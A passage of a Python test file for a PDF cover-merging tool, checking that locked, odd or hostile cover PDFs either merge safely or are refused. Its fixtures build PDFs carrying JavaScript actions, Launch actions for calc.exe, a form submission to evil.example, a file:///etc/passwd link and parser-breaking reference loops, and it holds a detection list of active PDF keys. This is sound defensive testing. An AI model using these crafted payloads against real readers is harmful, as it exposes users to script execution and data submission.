"""Cover pages go in front, in order; the sheet keeps its pages and its fields.

Covers may be locked, odd, large, full of scripts, or built to break a reader:
each either merges, inert, or is refused with one clean line and nothing written.
"""

from __future__ import annotations

import io
import re
import subprocess
import sys
import time
import zlib
from pathlib import Path

import pikepdf
import pypdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from reportlab.pdfgen.canvas import Canvas

from support import assert_clean_error, checkbox_fields, count_calls, page_texts

DATE = "2026-11-23"
A4 = (595.28, 841.89)
LETTER = (612, 792)


def make_cover(path: Path, label: str, pages: int = 1, size=A4) -> Path:
    canvas = Canvas(str(path), pagesize=size, invariant=True)
    for number in range(1, pages + 1):
        canvas.drawString(72, 200, f"{label} page {number}")
        canvas.showPage()
    canvas.save()
    return path


def raw_pdf(objects: dict[int, bytes]) -> bytes:
    """A PDF written by hand from its objects' bodies (object 1 is the catalog)."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    size = max(objects) + 1
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += (
            b"%010d 00000 n \n" % offsets[number]
            if number in offsets
            else b"0" * 10 + b" 65535 f \n"
        )
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (size, xref)
    return bytes(out)


def one_page(
    page_extra: bytes = b"", kids: bytes = b"[3 0 R]", box: bytes = b"[0 0 200 200]", **more: bytes
) -> bytes:
    """A one-page PDF, with extra entries in the page dictionary and extra objects."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids " + kids + b" /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox " + box + b" /Resources << >> "
        b"/Contents 4 0 R " + page_extra + b" >>",
        4: b"<< /Length 0 >>\nstream\n\nendstream",
    }
    objects.update({int(key.removeprefix("obj")): body for key, body in more.items()})
    return raw_pdf(objects)


# --- the plain case ----------------------------------------------------------


def test_covers_in_order_then_the_sheet(run, tmp_path) -> None:
    make_cover(tmp_path / "a.pdf", "CLINIC-A", pages=2)
    make_cover(tmp_path / "b.pdf", "CLINIC-B", size=LETTER)
    result = run(
        "build",
        "--date",
        DATE,
        "--layout",
        "handout",
        "--cover",
        "a.pdf",
        "--cover",
        "b.pdf",
        "-o",
        "out.pdf",
    )
    assert result.code == 0, result.stderr
    texts = page_texts(tmp_path / "out.pdf")
    alone = run("build", "--date", DATE, "--layout", "handout", "-o", "alone.pdf")
    assert alone.code == 0
    sheet = page_texts(tmp_path / "alone.pdf")
    assert "CLINIC-A page 1" in texts[0]
    assert "CLINIC-A page 2" in texts[1]
    assert "CLINIC-B page 1" in texts[2]
    assert texts[3:] == sheet
    # Form fields still work after the merge.
    assert len(checkbox_fields(tmp_path / "out.pdf")) == len(
        checkbox_fields(tmp_path / "alone.pdf")
    )
    fields = pypdf.PdfReader(tmp_path / "out.pdf").get_fields()
    assert len(fields) == len(pypdf.PdfReader(tmp_path / "alone.pdf").get_fields())


def test_cover_merge_is_deterministic(run, tmp_path) -> None:
    make_cover(tmp_path / "a.pdf", "CLINIC-A")
    for name in ("x.pdf", "y.pdf"):
        assert (
            run("build", "--date", DATE, "-a", "moderate", "--cover", "a.pdf", "-o", name).code == 0
        )
    assert (tmp_path / "x.pdf").read_bytes() == (tmp_path / "y.pdf").read_bytes()
    meta = pypdf.PdfReader(tmp_path / "x.pdf").metadata
    assert meta.creator.startswith("makeplan ")


def test_merged_pdf_parses_cleanly(run, tmp_path) -> None:
    make_cover(tmp_path / "a.pdf", "A")
    assert (
        run("build", "--date", DATE, "-a", "moderate", "--cover", "a.pdf", "-o", "out.pdf").code
        == 0
    )
    with pikepdf.open(tmp_path / "out.pdf") as pdf:
        assert pdf.check_pdf_syntax() == []
    data = (tmp_path / "out.pdf").read_bytes()
    assert len(pypdf.PdfReader(io.BytesIO(data)).pages) == 2


# --- passwords ---------------------------------------------------------------


def lock(plain: Path, target: Path, user: str, owner: str, algorithm: str) -> Path:
    writer = pypdf.PdfWriter(clone_from=plain)
    writer.encrypt(user_password=user, owner_password=owner, algorithm=algorithm)
    writer.write(target)
    return target


def assert_not_encrypted(path: Path) -> None:
    assert not pypdf.PdfReader(path).is_encrypted
    with pikepdf.open(path) as pdf:  # no password needed
        assert not pdf.is_encrypted


@pytest.mark.parametrize("algorithm", ["RC4-128", "AES-128", "AES-256"])
@pytest.mark.parametrize("password", [None, "unrelated"], ids=["no-password", "a-password"])
def test_cover_with_only_an_owner_password_is_merged(run, tmp_path, algorithm, password) -> None:
    plain = make_cover(tmp_path / "plain.pdf", "OPEN-COVER")
    lock(plain, tmp_path / "open.pdf", "", "owner", algorithm)
    extra = [] if password is None else ["--cover-password", password]
    result = run(
        "build", "--date", DATE, "-a", "moderate", "--cover", "open.pdf", *extra, "-o", "out.pdf"
    )
    assert result.code == 0, result.stderr
    assert "OPEN-COVER" in page_texts(tmp_path / "out.pdf")[0]
    assert_not_encrypted(tmp_path / "out.pdf")


@pytest.mark.parametrize("algorithm", ["RC4-128", "AES-256"])
@pytest.mark.parametrize("password", ["secret", "owner"], ids=["user-password", "owner-password"])
def test_cover_locked_with_a_user_password_opens_with_cover_password(
    run, tmp_path, algorithm, password
) -> None:
    plain = make_cover(tmp_path / "plain.pdf", "SECRET")
    lock(plain, tmp_path / "locked.pdf", "secret", "owner", algorithm)
    result = run(
        "build",
        "--date",
        DATE,
        "--cover",
        "locked.pdf",
        "--cover-password",
        password,
        "-o",
        "out.pdf",
    )
    assert result.code == 0, result.stderr
    assert "SECRET page 1" in page_texts(tmp_path / "out.pdf")[0]
    assert_not_encrypted(tmp_path / "out.pdf")


def test_cover_password_from_the_environment(run, tmp_path, monkeypatch) -> None:
    plain = make_cover(tmp_path / "plain.pdf", "SECRET")
    lock(plain, tmp_path / "locked.pdf", "s3cr3t ü", "owner", "AES-256")
    monkeypatch.setenv("MAKEPLAN_COVER_PASSWORD", "s3cr3t ü")
    result = run(
        "build", "--date", DATE, "-a", "moderate", "--cover", "locked.pdf", "-o", "out.pdf"
    )
    assert result.code == 0, result.stderr
    assert "SECRET page 1" in page_texts(tmp_path / "out.pdf")[0]
    assert_not_encrypted(tmp_path / "out.pdf")


@pytest.mark.parametrize("algorithm", ["RC4-128", "AES-256"])
@pytest.mark.parametrize("given", [None, "wrong"], ids=["no-password", "wrong-password"])
def test_cover_needing_a_password_fails_cleanly(run, tmp_path, algorithm, given) -> None:
    plain = make_cover(tmp_path / "plain.pdf", "SECRET")
    lock(plain, tmp_path / "locked.pdf", "secret", "owner", algorithm)
    (tmp_path / "out.pdf").write_bytes(b"the old file")
    extra = [] if given is None else ["--cover-password", given]
    result = run("build", "--cover", "locked.pdf", *extra, "-o", "out.pdf")
    assert_clean_error(result, "locked.pdf", "--cover-password")
    assert result.code == 3
    assert (tmp_path / "out.pdf").read_bytes() == b"the old file"


# --- active content ----------------------------------------------------------

ACTIVE_KEYS = {"/JS", "/JavaScript", "/OpenAction", "/AA", "/EmbeddedFiles", "/EF", "/AF", "/XFA"}
ACTIVE_ACTIONS = {
    "/JavaScript",
    "/Launch",
    "/SubmitForm",
    "/ImportData",
    "/ResetForm",
    "/GoToR",
    "/GoToE",
    "/Named",
    "/Rendition",
}
SECRETS = (b"app.alert", b"calc.exe", b"ATTACHED-SECRET", b"<xdp", b"javascript:", b"file:")


def is_direct(value: object) -> bool:
    return isinstance(value, pikepdf.Object) and not value.is_indirect


def active_kinds(path: Path) -> list[str]:
    """What `active_content` finds, without where (object numbers differ between files)."""
    return sorted(
        re.sub(r" in (stream )?(object \(\d+, \d+\)|a direct dictionary)", "", found)
        for found in active_content(path)
    )


def active_content(path: Path) -> list[str]:
    """Everything active in any object of the file (found or not from the catalog)."""
    found: list[str] = []
    with pikepdf.open(path) as pdf:
        stack: list[pikepdf.Object] = [*pdf.objects, pdf.trailer]
        while stack:
            obj = stack.pop()
            if isinstance(obj, pikepdf.String):
                found += [f"string {obj!r}" for s in SECRETS if s in bytes(obj)]
            elif isinstance(obj, pikepdf.Array):
                stack += [item for item in obj if is_direct(item)]
            elif isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
                where = f"object {obj.objgen}" if obj.is_indirect else "a direct dictionary"
                found += [f"{key} in {where}" for key in obj if key in ACTIVE_KEYS]
                if str(obj.get("/S", "")) in ACTIVE_ACTIONS:
                    found.append(f"action {obj.S} in {where}")
                if str(obj.get("/Subtype", "")) == "/FileAttachment":
                    found.append(f"a file attachment annotation in {where}")
                if str(obj.get("/Type", "")) in ("/EmbeddedFile", "/Filespec"):
                    found.append(f"a {obj.Type} in {where}")
                # An object stream's objects are visited one by one; its raw text is not.
                if isinstance(obj, pikepdf.Stream) and obj.get("/Type") != Name.ObjStm:
                    data = obj.read_bytes()
                    found += [f"{s!r} in stream {where}" for s in SECRETS if s in data]
                stack += [value for value in obj.values() if is_direct(value)]
    return found


def make_active_cover(path: Path) -> Path:
    """Two visible pages carrying every kind of active content, and some harmless links."""
    make_cover(path.with_suffix(".plain.pdf"), "ACTIVE-COVER", pages=2)
    with pikepdf.open(path.with_suffix(".plain.pdf")) as pdf:
        first, second = pdf.pages[0].obj, pdf.pages[1].obj

        def script(code: str) -> pikepdf.Object:
            return pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=code))

        attached = pdf.make_stream(b"ATTACHED-SECRET")
        attached.Type = Name.EmbeddedFile
        filespec = pdf.make_indirect(
            Dictionary(Type=Name.Filespec, F="calc.exe", UF="calc.exe", EF=Dictionary(F=attached))
        )
        root = pdf.Root
        root.OpenAction = script("app.alert('opened')")
        root.AA = Dictionary(WC=script("app.alert('closing')"))
        root.Names = Dictionary(
            JavaScript=Dictionary(Names=Array([String("hello"), script("app.alert('hi')")])),
            EmbeddedFiles=Dictionary(Names=Array([String("calc.exe"), filespec])),
        )
        first.AA = Dictionary(O=script("app.alert('page')"))
        first.AF = Array([filespec])

        def annot(subtype: Name, y: int, **entries) -> pikepdf.Object:
            rect = Array([72, y, 300, y + 12])
            return pdf.make_indirect(
                Dictionary(Type=Name.Annot, Subtype=subtype, Rect=rect, **entries)
            )

        def link(y: int, action: Dictionary) -> pikepdf.Object:
            return annot(Name.Link, y, Border=Array([0, 0, 0]), A=action)

        web = Dictionary(
            S=Name.URI,
            URI=pdf.make_indirect(String("https://example.org/exercises")),
            Next=script("app.alert(1)"),
        )
        name_field = annot(
            Name.Widget,
            500,
            FT=Name.Tx,
            T="patient",
            V="",
            DA="/Helv 10 Tf 0 g",
            AA=Dictionary(K=script("app.alert('key')")),
        )
        send = annot(
            Name.Widget,
            480,
            FT=Name.Btn,
            Ff=65536,
            T="send",
            A=pdf.make_indirect(
                Dictionary(S=Name.SubmitForm, F=Dictionary(FS=Name.URL, F="https://evil.example/"))
            ),
        )
        reset = annot(
            Name.Widget, 460, FT=Name.Btn, Ff=65536, T="reset", A=Dictionary(S=Name.ResetForm)
        )
        attachment = annot(Name.FileAttachment, 440, FS=filespec, Contents="an attachment")
        # Some actions and values are indirect objects, some direct: both are checked.
        first.Annots = pdf.make_indirect(
            Array(
                [
                    link(700, Dictionary(S=Name.JavaScript, JS="app.alert('link')")),
                    link(690, script("app.alert('link')")),
                    link(680, pdf.make_indirect(Dictionary(S=Name.Launch, F="calc.exe"))),
                    link(670, Dictionary(S=pdf.make_indirect(Name.Launch), F="calc.exe")),
                    link(660, web),
                    link(640, Dictionary(S=Name.URI, URI="mailto:clinic@example.org")),
                    link(620, Dictionary(S=Name.URI, URI="javascript:app.alert(2)")),
                    link(600, Dictionary(S=Name.URI, URI="file:///etc/passwd")),
                    link(580, Dictionary(S=Name.GoTo, D=Array([second, Name.Fit]))),
                    link(560, Dictionary(S=Name.ImportData, F="calc.exe")),
                    link(540, Dictionary(S=Name.GoToR, F="calc.exe", D=Array([0, Name.Fit]))),
                    link(520, Dictionary(S=Name.Named, N=Name.Print)),
                    attachment,
                    annot(Name.Popup, 420, Parent=attachment),
                    name_field,
                    send,
                    reset,
                ]
            )
        )
        for widget in (name_field, send, reset):
            widget.P = first
        root.AcroForm = Dictionary(
            Fields=Array([name_field, send, reset]),
            DA="/Helv 0 Tf 0 g",
            XFA=Array([String("template"), pdf.make_stream(b"<xdp:xdp/>")]),
        )
        outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines))
        contents = pdf.make_indirect(
            Dictionary(
                Title="Contents", Parent=outlines, A=Dictionary(S=Name.GoTo, D=[second, Name.Fit])
            )
        )
        trap = pdf.make_indirect(
            Dictionary(Title="Click me", Parent=outlines, A=script("app.alert(3)"))
        )
        contents.Next, trap.Prev = trap, contents
        outlines.First, outlines.Last, outlines.Count = contents, trap, 2
        root.Outlines = outlines
        pdf.save(path)
    return path


def test_cover_active_content_is_removed_and_its_pages_kept(run, tmp_path) -> None:
    make_active_cover(tmp_path / "active.pdf")
    assert active_content(tmp_path / "active.pdf")  # the check finds what is there
    result = run(
        "build", "--date", DATE, "-a", "moderate", "--cover", "active.pdf", "-o", "out.pdf"
    )
    assert result.code == 0, result.stderr
    assert result.stderr.strip().splitlines() == ["Wrote out.pdf"], result.stderr
    out = tmp_path / "out.pdf"
    # Only the sheet's own: its plan and record (embedded files) and the pain boxes'
    # digit checks (scripts), exactly as in the sheet made without the cover.
    assert run("build", "--date", DATE, "-a", "moderate", "-o", "alone.pdf").code == 0
    assert active_kinds(out) == active_kinds(tmp_path / "alone.pdf")
    assert not any("SECRET" in kind or "calc" in kind for kind in active_kinds(out))
    with pikepdf.open(out) as pdf:
        assert pdf.check_pdf_syntax() == []
        assert "/OpenAction" not in pdf.Root
        assert sorted(pdf.attachments) == ["makeplan-plan.toml", "makeplan-sheet.json"]
    texts = page_texts(out)
    assert "ACTIVE-COVER page 1" in texts[0] and "ACTIVE-COVER page 2" in texts[1]
    assert len(texts) == 3
    # The same command again gives the same file.
    assert (
        run(
            "build", "--date", DATE, "-a", "moderate", "--cover", "active.pdf", "-o", "again.pdf"
        ).code
        == 0
    )
    assert (tmp_path / "again.pdf").read_bytes() == out.read_bytes()


def test_cover_links_to_pages_and_web_and_mail_are_kept_other_links_removed(run, tmp_path) -> None:
    make_active_cover(tmp_path / "active.pdf")
    assert (
        run(
            "build", "--date", DATE, "-a", "moderate", "--cover", "active.pdf", "-o", "out.pdf"
        ).code
        == 0
    )
    reader = pypdf.PdfReader(tmp_path / "out.pdf")
    actions = [
        annot.get_object().get("/A")
        for annot in reader.pages[0]["/Annots"]
        if annot.get_object()["/Subtype"] == "/Link"
    ]
    kept = [action for action in actions if action is not None]
    uris = sorted(str(action["/URI"]) for action in kept if action["/S"] == "/URI")
    assert uris == ["https://example.org/exercises", "mailto:clinic@example.org"]
    assert all("/Next" not in action for action in kept)  # the script chained after it
    (goto,) = [action for action in kept if action["/S"] == "/GoTo"]
    assert goto["/D"][0].get_object() == reader.pages[1]  # still the cover's second page
    # Bookmarks to cover pages stay; one whose only action was a script does nothing now.
    outline = {item.title: item for item in reader.outline}
    assert reader.get_destination_page_number(outline["Contents"]) == 1


def test_cover_form_field_scripts_and_xfa_removed_fields_kept(run, tmp_path) -> None:
    make_active_cover(tmp_path / "active.pdf")
    assert (
        run(
            "build", "--date", DATE, "-a", "moderate", "--cover", "active.pdf", "-o", "out.pdf"
        ).code
        == 0
    )
    fields = pypdf.PdfReader(tmp_path / "out.pdf").get_fields()
    assert {"cover1-patient", "cover1-send", "cover1-reset"} <= set(fields)
    with pikepdf.open(tmp_path / "out.pdf") as pdf:
        widgets = [a for a in pdf.pages[0].obj.Annots if a.Subtype == Name.Widget]
        assert sorted(str(w.T) for w in widgets) == [
            "cover1-patient",
            "cover1-reset",
            "cover1-send",
        ]
        assert all("/AA" not in w and "/A" not in w for w in widgets)
        assert "/XFA" not in pdf.Root.AcroForm
        assert str(pdf.Root.AcroForm.DA) == "/Helv 0 Tf 0 g"  # the cover's fields still need it


# --- odd but fine covers -----------------------------------------------------


def rotated_cover(path: Path, inherited: bool) -> Path:
    """Two pages turned 90 degrees: on each page, or once on the page tree above them."""
    make_cover(path.with_suffix(".plain.pdf"), "TURNED", pages=2)
    with pikepdf.open(path.with_suffix(".plain.pdf")) as pdf:
        if inherited:
            pdf.Root.Pages.Rotate = 90
            for page in pdf.pages:
                del page.obj.Rotate  # reportlab writes /Rotate 0 on each page
        else:
            for page in pdf.pages:
                page.obj.Rotate = 90
        pdf.save(path)
    return path


@pytest.mark.parametrize("inherited", [False, True], ids=["on-the-page", "inherited"])
def test_rotated_cover_pages_keep_their_rotation(run, tmp_path, inherited) -> None:
    rotated_cover(tmp_path / "turned.pdf", inherited)
    assert [page.rotation for page in pypdf.PdfReader(tmp_path / "turned.pdf").pages] == [90, 90]
    assert (
        run(
            "build", "--date", DATE, "-a", "moderate", "--cover", "turned.pdf", "-o", "out.pdf"
        ).code
        == 0
    )
    pages = pypdf.PdfReader(tmp_path / "out.pdf").pages
    assert [page.rotation for page in pages] == [90, 90, 0]
    with pikepdf.open(tmp_path / "out.pdf") as pdf:  # a second reader agrees
        assert [int(page.obj.get("/Rotate", 0)) for page in pdf.pages] == [90, 90, 0]


@pytest.mark.parametrize(("paper", "size"), [("a4", A4), ("letter", LETTER)])
def test_covers_keep_their_size_and_the_sheet_keeps_its_paper(run, tmp_path, paper, size) -> None:
    make_cover(tmp_path / "small.pdf", "SMALL", size=(300, 400))
    make_cover(tmp_path / "wide.pdf", "WIDE", size=(842, 595))
    make_cover(tmp_path / "other.pdf", "OTHER", size=LETTER if paper == "a4" else A4)
    result = run(
        "build",
        "--date",
        DATE,
        "--layout",
        "handout",
        "--paper",
        paper,
        "--cover",
        "small.pdf",
        "--cover",
        "wide.pdf",
        "--cover",
        "other.pdf",
        "-o",
        "out.pdf",
    )
    assert result.code == 0, result.stderr
    sizes = [
        (round(float(page.mediabox.width)), round(float(page.mediabox.height)))
        for page in pypdf.PdfReader(tmp_path / "out.pdf").pages
    ]
    other = LETTER if paper == "a4" else A4
    assert sizes[:3] == [(300, 400), (842, 595), (round(other[0]), round(other[1]))]
    assert set(sizes[3:]) == {(round(size[0]), round(size[1]))}


def test_cover_with_same_field_names_stays_separate(run, tmp_path) -> None:
    # An old sheet used as a cover has fields named exactly like the new sheet's.
    assert (
        run("build", "--date", DATE, "-a", "moderate", "-e", "seated-twist", "-o", "old.pdf").code
        == 0
    )
    result = run(
        "build",
        "--date",
        DATE,
        "-a",
        "moderate",
        "-e",
        "seated-twist",
        "--cover",
        "old.pdf",
        "-o",
        "new.pdf",
    )
    assert result.code == 0, result.stderr
    fields = pypdf.PdfReader(tmp_path / "new.pdf").get_fields()
    assert len(fields) == 2 * (10 + 1)  # ten boxes and a pain box, in each
    assert "seated-twist_day1_session1_right_rep1" in fields
    assert "cover1-seated-twist_day1_session1_right_rep1" in fields


def make_form_cover(path: Path) -> Path:
    """Two pages of fields with full names: patient.name and patient.phone, and a
    radio group 'seen' with a button on each page; 'seated-twist_day1_session1_right_rep1'
    is a checkbox named like one of the sheet's."""
    make_cover(path.with_suffix(".plain.pdf"), "FORM", pages=2)
    with pikepdf.open(path.with_suffix(".plain.pdf")) as pdf:
        first, second = pdf.pages[0].obj, pdf.pages[1].obj
        patient = pdf.make_indirect(Dictionary(T="patient", FT=Name.Tx, Kids=Array()))
        seen = pdf.make_indirect(
            Dictionary(T="seen", FT=Name.Btn, Ff=49152, V=Name.Off, Kids=Array())
        )

        def widget(page, y: int, **entries) -> pikepdf.Object:
            return pdf.make_indirect(
                Dictionary(
                    Type=Name.Annot,
                    Subtype=Name.Widget,
                    Rect=[72, y, 300, y + 14],
                    P=page,
                    **entries,
                )
            )

        name = widget(first, 700, T="name", Parent=patient, V="Ann")
        phone = widget(first, 680, T="phone", Parent=patient)
        patient.Kids = Array([name, phone])
        yes = widget(
            first,
            660,
            Parent=seen,
            AS=Name.Off,
            AP=Dictionary(N=Dictionary(Off=pdf.make_stream(b""), yes=pdf.make_stream(b""))),
        )
        no = widget(
            second,
            700,
            Parent=seen,
            AS=Name.Off,
            AP=Dictionary(N=Dictionary(Off=pdf.make_stream(b""), no=pdf.make_stream(b""))),
        )
        seen.Kids = Array([yes, no])
        twin = widget(
            second, 680, T="seated-twist_day1_session1_right_rep1", FT=Name.Btn, V=Name.Off
        )
        first.Annots = Array([name, phone, yes])
        second.Annots = Array([no, twin])
        pdf.Root.AcroForm = Dictionary(Fields=Array([patient, seen, twin]), DA="/Helv 0 Tf 0 g")
        pdf.save(path)
    return path


def test_cover_fields_with_kids_stay_separate_from_the_sheet(run, tmp_path) -> None:
    make_form_cover(tmp_path / "form.pdf")
    alone = run("build", "--date", DATE, "-a", "moderate", "-e", "seated-twist", "-o", "alone.pdf")
    assert alone.code == 0
    result = run(
        "build",
        "--date",
        DATE,
        "-e",
        "seated-twist",
        "--cover",
        "form.pdf",
        "--cover",
        "form.pdf",
        "-o",
        "out.pdf",
    )
    assert result.code == 0, result.stderr
    reader = pypdf.PdfReader(tmp_path / "out.pdf")
    fields = reader.get_fields()
    sheet = pypdf.PdfReader(tmp_path / "alone.pdf").get_fields()
    for number in (1, 2):
        prefix = f"cover{number}-"
        assert fields[prefix + "patient.name"]["/V"] == "Ann"
        assert prefix + "patient.phone" in fields
        assert len(fields[prefix + "seen"]["/Kids"]) == 2  # one radio group across two pages
        assert prefix + "seated-twist_day1_session1_right_rep1" in fields
    assert set(sheet) <= set(fields)
    assert len(fields) == len(sheet) + 2 * 5  # patient, its two kids, seen, the twin
    # Each field's kids point back to it: the tree survived the merge.
    for field in reader.trailer["/Root"]["/AcroForm"]["/Fields"]:
        field = field.get_object()
        for kid in field.get("/Kids", []):
            assert kid.get_object()["/Parent"].get_object() == field
    with pikepdf.open(tmp_path / "out.pdf") as pdf:
        assert pdf.check_pdf_syntax() == []


def make_long_cover(path: Path, pages: int) -> Path:
    """A cover with text, a web link and ten form fields on every page."""
    canvas = Canvas(str(path.with_suffix(".plain.pdf")), pagesize=A4, invariant=True)
    for number in range(1, pages + 1):
        canvas.drawString(72, 720, f"LONG page {number}")
        canvas.linkURL("https://example.org/", (72, 700, 200, 715))
        canvas.showPage()
    canvas.save()
    with pikepdf.open(path.with_suffix(".plain.pdf")) as pdf:
        fields = Array()
        for number, page in enumerate(pdf.pages, start=1):
            for row in range(10):
                rect = Array([72, 600 - 30 * row, 300, 620 - 30 * row])
                widget = Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, Rect=rect)
                widget.T, widget.P = f"page{number}-line{row}", page.obj
                page.obj.Annots.append(pdf.make_indirect(widget))
                fields.append(page.obj.Annots[-1])
        pdf.Root.AcroForm = Dictionary(Fields=fields)
        pdf.save(path)
    return path


def test_long_cover_merges_in_linear_time(run, tmp_path) -> None:
    make_long_cover(tmp_path / "short.pdf", 75)
    make_long_cover(tmp_path / "long.pdf", 300)

    def work(*covers: str) -> int:
        # Python function calls made: a measure of work that a busy machine does not
        # change, unlike seconds.
        result, calls = count_calls(
            run,
            "build",
            "--date",
            DATE,
            "-a",
            "moderate",
            *[f"--cover={c}" for c in covers],
            "-o",
            "out.pdf",
        )
        assert result.code == 0, result.stderr
        return calls

    sheet = work()
    short, long = work("short.pdf") - sheet, work("long.pdf") - sheet
    # Four times the pages: about four times the work. Work growing with the square
    # of the pages would be about sixteen times.
    assert long <= 4.5 * short, (short, long)
    reader = pypdf.PdfReader(tmp_path / "out.pdf")
    assert len(reader.pages) == 301
    own = [name for name in reader.get_fields() if not name.startswith("cover")]
    assert len(own) == len(checkbox_fields(tmp_path / "out.pdf")) + len(
        [name for name in own if name.endswith("_pain")]
    )
    assert len(reader.get_fields()) == 300 * 10 + len(own)


@pytest.mark.skipif(sys.platform != "linux", reason="reads the peak memory the Linux way")
def test_long_cover_is_never_decoded_all_at_once(tmp_path) -> None:
    # 300 pages, each with content that inflates to 2 MB: 600 MB if all were decoded.
    content = zlib.compress(b"q Q\n" * 500_000, 9)
    with pikepdf.new() as pdf:
        for _ in range(300):
            page = pdf.add_blank_page(page_size=(400, 500))
            stream = pikepdf.Stream(pdf, b"")
            stream.write(content, filter=Name.FlateDecode)
            page.obj.Contents = stream
        pdf.save(tmp_path / "big.pdf", stream_decode_level=pikepdf.StreamDecodeLevel.none)
    measure = (
        "import resource, sys\n"
        "from makeplan.cli import run\n"
        "code = run(sys.argv[1:])\n"
        "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss)\n"
        "sys.exit(code)\n"
    )
    result = subprocess.run(
        [
            sys.executable,
            "-c",
            measure,
            "build",
            "-a",
            "moderate",
            "--cover",
            "big.pdf",
            "-o",
            "out.pdf",
        ],
        cwd=tmp_path,
        capture_output=True,
        text=True,
    )
    assert result.returncode == 0, result.stderr
    peak_mb = int(result.stdout.split()[-1]) / 1024
    assert peak_mb < 300, peak_mb
    assert len(pypdf.PdfReader(tmp_path / "out.pdf").pages) == 301


# --- covers that cannot be used ----------------------------------------------


def test_missing_cover(run, tmp_path) -> None:
    assert_clean_error(run("build", "--cover", "nope.pdf"), "nope.pdf", "no such file")
    assert not (tmp_path / "routine.pdf").exists()


def test_cover_is_a_folder(run, tmp_path) -> None:
    (tmp_path / "folder.pdf").mkdir()
    assert_clean_error(run("build", "--cover", "folder.pdf"), "folder.pdf")


def test_output_same_as_cover_refused(run, tmp_path) -> None:
    cover = make_cover(tmp_path / "c.pdf", "KEEP")
    before = cover.read_bytes()
    assert_clean_error(run("build", "--cover", "c.pdf", "-o", "c.pdf"), "c.pdf")
    assert cover.read_bytes() == before


PAGES_LOOP = raw_pdf(
    {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>",
    }
)
PARENT_LOOP = raw_pdf(
    {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 /Parent 5 0 R >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << >> >>",
        5: b"<< /Type /Pages /Kids [2 0 R] /Count 1 /Parent 2 0 R >>",
    }
)
HOSTILE = {
    "empty": b"",
    "png-renamed": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(100),
    "garbage": b"%PDF-1.4\n" + bytes(range(256)) * 4,
    "pages-kids-loop": PAGES_LOOP,
    "pages-kids-loop-with-a-page": one_page(kids=b"[2 0 R 3 0 R]"),
    "parent-loop": PARENT_LOOP,
    "field-parent-loop": one_page(
        b"/Annots [5 0 R]",
        obj5=b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /Parent 6 0 R >>",
        obj6=b"<< /T (b) /Kids [5 0 R] /Parent 5 0 R >>",
    ),
    "field-kids-loop": one_page(
        b"/Annots [5 0 R]",
        obj5=b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /Rect [0 0 9 9] /Parent 6 0 R >>",
        obj6=b"<< /T (b) /Kids [5 0 R 6 0 R] >>",
    ),
    "object-is-itself": one_page(b"/Extra 6 0 R", obj6=b"6 0 R"),
    "objects-refer-round": one_page(b"/Extra 6 0 R", obj6=b"7 0 R", obj7=b"6 0 R"),
    "media-box-is-itself": one_page(box=b"6 0 R", obj6=b"6 0 R"),
    "array-10000-deep": one_page(b"/Extra " + b"[" * 10_000 + b"]" * 10_000),
    "dictionary-10000-deep": one_page(b"/Extra " + b"<< /A " * 10_000 + b"1" + b" >>" * 10_000),
    "array-1000-deep": one_page(b"/Extra " + b"[" * 1000 + b"]" * 1000),
    "reference-chain-5000-long": one_page(
        b"/Extra 10 0 R", **{f"obj{n}": b"[%d 0 R]" % (n + 1) for n in range(10, 5010)}
    ),
}


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_cover_is_refused_cleanly(run, tmp_path, name) -> None:
    (tmp_path / f"{name}.pdf").write_bytes(HOSTILE[name])
    (tmp_path / "out.pdf").write_bytes(b"the old file")
    start = time.perf_counter()
    result = run("build", "--cover", f"{name}.pdf", "-o", "out.pdf")
    # Generous: a refusal takes well under a second; a loop over the damage would not end.
    assert time.perf_counter() - start < 60
    said = {"empty": "is empty", "png-renamed": "is not a PDF", "garbage": "is cut short"}
    assert_clean_error(result, f"cover '{name}.pdf': {said.get(name, 'is damaged')}")
    assert result.code == 3
    assert (tmp_path / "out.pdf").read_bytes() == b"the old file"
    assert sorted(path.name for path in tmp_path.iterdir()) == sorted([f"{name}.pdf", "out.pdf"])


def test_hostile_cover_is_refused_by_check_too(run, tmp_path) -> None:
    (tmp_path / "loop.pdf").write_bytes(PARENT_LOOP)
    (tmp_path / "p.toml").write_text('version = 1\ncovers = ["loop.pdf"]\n')
    result = run("check", "p.toml")
    assert result.code == 1
    assert result.text.startswith("p.toml:2: covers[1]: cover 'loop.pdf': is damaged"), result.text
    assert "Traceback" not in result.stderr


@pytest.mark.parametrize("fraction", [0.1, 0.33, 0.5, 0.9, 0.99])
def test_cut_short_cover_is_refused_or_merged_whole(run, tmp_path, fraction) -> None:
    good = make_cover(tmp_path / "good.pdf", "WHOLE", pages=3).read_bytes()
    (tmp_path / "cut.pdf").write_bytes(good[: int(len(good) * fraction)])
    result = run("build", "--date", DATE, "-a", "moderate", "--cover", "cut.pdf", "-o", "out.pdf")
    if result.code == 0:
        # pypdf rebuilds some cut files; then the merge must be a real PDF, quietly made.
        assert result.stderr.strip().splitlines() == ["Wrote out.pdf"], result.stderr
        with pikepdf.open(tmp_path / "out.pdf") as pdf:
            assert pdf.check_pdf_syntax() == []
        assert page_texts(tmp_path / "out.pdf")
    else:
